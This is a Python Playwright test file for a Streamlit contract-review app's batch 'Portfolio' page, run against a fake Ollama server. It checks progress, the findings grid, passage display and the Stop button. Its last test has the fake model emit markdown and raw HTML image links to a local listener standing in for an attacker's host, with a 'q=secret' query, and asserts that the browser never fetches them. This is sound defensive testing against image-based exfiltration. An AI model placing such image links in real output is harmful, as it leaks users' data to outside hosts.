"""Portfolio in a real browser: the progress bar counts up while the batch runs, the grid shows
each report's severities, a selected cell opens its passage, and Stop ends the running request."""

from __future__ import annotations

import itertools
import re
import time

from playwright.sync_api import expect

from devtools.fake_upstream import Script
from devtools.streamlit_page import wait_idle
from lib.analysis.samples import all_samples
from lib.store.run_log import RunLog
from tests.browser.conftest import wait_for_app, wait_for_grid_rows

QUOTE = "principal  place of business is located at 2003 Navasota Cove"

# Each sample contract fits the model whole: one call per contract, not a planned long review.
LARGE_CONTEXT = 131_072


def report_tokens() -> list[str]:
    return [
        "## Overall risk: HIGH\n", "## Clause by clause\n",
        "### Limitation of liability (cap, uncapped items) — RED\n",
        f'- Found: yes — clause 1 "{QUOTE}"\n',
        "### Audit rights — YELLOW\n", "- Found: yes — clause 4\n",
    ]  # fmt: skip


def open_portfolio(page, url: str) -> None:
    wait_for_app(page, url)
    nav = page.locator('[data-testid="stSidebarNav"]')
    nav.get_by_text("Review", exact=True).wait_for(timeout=30_000)
    nav.get_by_text("Portfolio", exact=True).click()
    page.get_by_role("heading", name="Portfolio").wait_for(timeout=30_000)
    page.locator(".st-key-pf_run button").wait_for(timeout=30_000)
    wait_idle(page)


def progress_line(page) -> str:
    found = re.findall(r"\d+ of \d+ runs[^\n]*", page.evaluate("() => document.body.innerText"))
    return found[0] if found else ""


def test_progress_grid_and_passage(page, streamlit_app, upstream, tmp_path):
    upstream.default = Script(tokens=report_tokens(), delay=0.25, dialect="ollama")
    upstream.app.model_context_length = LARGE_CONTEXT
    url = streamlit_app(OLLAMA_HOST=upstream.url)
    open_portfolio(page, url)
    page.locator(".st-key-pf_run button").click()

    seen: list[str] = []
    grid_while_running = False
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        line = progress_line(page)
        if line and (not seen or seen[-1] != line):
            seen.append(line)
        if line.startswith("5 of 5 runs"):
            break
        if line and "Findings grid" in page.evaluate("() => document.body.innerText"):
            grid_while_running = True  # the grid fills as runs end, not only at the end
        time.sleep(0.2)
    finished = [int(s.split()[0]) for s in seen]
    assert finished[-1] == 5, seen
    assert grid_while_running, seen
    assert len(set(finished)) >= 3 and finished == sorted(finished), seen
    assert any("left" in s for s in seen), f"no ETA shown: {seen}"
    # One local Ollama: one request at a time.
    streams = upstream.streams()
    assert len(streams) == 5
    assert all(a.disconnected_at or a.completed for a in streams)
    assert all(b.started >= a.token_times[-1] for a, b in itertools.pairwise(streams))

    # The grid may already hold every finished run while the batch still writes its last one
    # down; the batch's end then draws the page once more, and a click during that redraw lands
    # on a grid about to be replaced. The running batch's progress caption ("Elapsed … s") goes
    # with that last draw: read the grid and click once it has gone and the page is idle.
    expect(page.get_by_text(re.compile(r"^Elapsed \d+ s"))).to_have_count(0, timeout=30_000)
    wait_idle(page)
    page.get_by_text("Findings grid").wait_for(timeout=30_000)
    page.locator('[data-testid="glide-cell-7-0"]').first.wait_for(state="attached", timeout=30_000)
    names = [s.file_name for s in all_samples()[:5]]
    wait_for_grid_rows(page, 3, ["HIGH"] * 5)
    wait_for_grid_rows(page, 7, ["RED"] * 5)  # limitation of liability
    rows = wait_for_grid_rows(page, 0, names)
    assert "Passage" not in page.evaluate("() => document.body.innerText")

    # Select the first contract's cell, then move to its liability column.
    row = rows.index(names[0])
    grid = page.locator('[data-testid="stDataFrame"]').first
    grid.scroll_into_view_if_needed()
    box = grid.bounding_box()
    page.mouse.click(box["x"] + 40, box["y"] + 35 * (row + 1) + 17)
    # The arrow keys go where the keyboard focus is: wait until the click has put it on the grid.
    page.wait_for_function(
        "() => document.activeElement?.closest('[data-testid=\"stDataFrame\"]') != null"
    )
    for _ in range(7):
        page.keyboard.press("ArrowRight")
    page.get_by_text("Quote found in the contract:").wait_for(timeout=30_000)
    body = page.evaluate("() => document.body.innerText")
    assert "Navasota Cove" in body and "Texas limited liability company" in body

    runs = RunLog(tmp_path / "history.sqlite3").query()
    assert len(runs) == 5 and len({r.batch_id for r in runs}) == 1 and runs[0].page == "batch"


def test_stop_ends_the_running_request(page, streamlit_app, upstream):
    upstream.default = Script(tokens=[f" t{i}" for i in range(2000)], delay=0.05, dialect="ollama")
    url = streamlit_app(OLLAMA_HOST=upstream.url)
    open_portfolio(page, url)
    page.locator(".st-key-pf_run button").click()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not (
        upstream.streams() and upstream.streams()[-1].tokens_sent >= 5
    ):
        time.sleep(0.05)
    record = upstream.streams()[-1]
    page.locator(".st-key-pf_stop button").click()
    assert upstream.wait_for_disconnect(15.0, record), "the upstream never saw the disconnect"
    page.get_by_text("Unfinished batches", exact=True).wait_for(timeout=30_000)
    assert len(upstream.streams()) == 1, "Stop must not start the next contract"


def test_an_opened_cell_fetches_nothing_the_model_wrote(page, streamlit_app, upstream, recorder):
    """A batch's model writes an image and a raw tag into a section; the analyst opens the cell.
    The listener standing in for the attacker's host sees no request."""
    port, seen = recorder
    tokens = report_tokens()
    tokens[3] = (
        f'- Found: yes — clause 1 "{QUOTE}"\n'
        f"- See ![x](http://127.0.0.1:{port}/p.png?q=secret) and "
        f'<img src="http://127.0.0.1:{port}/raw.png">\n'
    )
    tokens.append(f"### Extra ![h](http://127.0.0.1:{port}/h.png) — RED\n")
    upstream.default = Script(tokens=tokens, delay=0.01, dialect="ollama")
    upstream.app.model_context_length = LARGE_CONTEXT
    url = streamlit_app(OLLAMA_HOST=upstream.url)
    open_portfolio(page, url)
    page.locator(".st-key-pf_run button").click()
    # The batch has ended and the page has redrawn its grid for the finished batch.
    page.get_by_text("5 of 5 runs").wait_for(timeout=60_000)
    page.get_by_text("Findings grid").wait_for(timeout=30_000)
    wait_idle(page)
    page.locator('[data-testid="glide-cell-7-0"]').first.wait_for(state="attached", timeout=15_000)
    grid = page.locator('[data-testid="stDataFrame"]').first
    grid.scroll_into_view_if_needed()
    box = grid.bounding_box()
    page.mouse.click(box["x"] + 40, box["y"] + 35 + 17)
    wait_idle(page)
    for _ in range(7):
        page.keyboard.press("ArrowRight")
    page.get_by_text("Quote found in the contract:").wait_for(timeout=30_000)
    wait_idle(page)
    # Whatever images the passage holds have been asked for once the browser has them all.
    page.wait_for_function("() => Array.from(document.images).every(i => i.complete)")

    assert seen == [], f"the browser fetched {seen}"
    body = page.locator('[data-testid="stMainBlockContainer"]')
    assert body.locator("img").count() == 0
    assert "x (image not loaded: " in body.inner_text()
    assert f'<img src="http://127.0.0.1:{port}/raw.png">' in body.inner_text()
